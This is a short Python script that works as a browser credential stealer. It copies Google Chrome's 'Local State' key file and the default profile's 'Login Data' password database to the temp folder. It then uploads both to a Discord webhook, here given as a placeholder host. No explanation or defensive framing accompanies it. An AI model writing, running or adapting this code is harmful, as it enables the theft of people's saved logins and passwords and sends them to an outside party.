import os
import shutil

import requests

WEBHOOK = "https://discord.example.invalid/api/webhooks/1/abc"


def grab():
    base = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
    files = {}
    for name in ("Local State", os.path.join("Default", "Login Data")):
        src = os.path.join(base, name)
        dst = os.path.join(os.environ["TEMP"], os.path.basename(name))
        shutil.copy(src, dst)
        files[name] = open(dst, "rb")
    requests.post(WEBHOOK, files=files)


if __name__ == "__main__":
    grab()
